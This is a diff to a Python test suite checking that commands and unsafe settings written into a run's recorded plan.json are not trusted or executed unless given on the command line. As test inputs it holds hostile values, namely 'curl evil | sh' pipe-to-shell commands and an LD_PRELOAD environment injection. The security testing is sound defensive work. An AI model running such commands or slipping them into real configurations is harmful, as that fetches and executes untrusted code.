@@ -49,8 +49,10 @@ def test_a_record_does_not_let_a_checkpoint_run_code(job: Job, mark: Path) -> No
     # Not even if somebody writes it into one.
     plan = json.loads((run_dir / "plan.json").read_text())
     plan["config"]["unsafe_load_pickle"] = plan["config"]["trust_run_dir"] = True
+    plan["config"]["notify"] = f"touch {mark}"
     (run_dir / "plan.json").write_text(json.dumps(plan))
-    assert RunDir(run_dir).plan().config.unsafe_load_pickle is False
+    recorded = RunDir(run_dir).plan().config
+    assert (recorded.unsafe_load_pickle, recorded.notify) == (False, None)
     output = job.output("a")
     verify = ("verify", output, "--sample", "1")
     for command, code in ((verify, 1), (("retry", output), 2), (run, 2)):
@@ -113,6 +115,7 @@ def test_a_recorded_command_is_not_run_again_by_retry(job: Job) -> None:
         ("trust_run_dir", True, "give --trust-run-dir on the command line"),
         ("fleet", "sh -c 'curl evil | sh'", "give --fleet='sh -c '"),
         ("fleet", "./my.sbatch", "give --fleet=./my.sbatch on the command line"),
+        ("notify", "curl evil | sh", "give --notify='curl evil | sh' on the command line"),
         ("submit_options", "--export=ALL,LD_PRELOAD=x", "give --submit-options=--export"),
     ],
 )
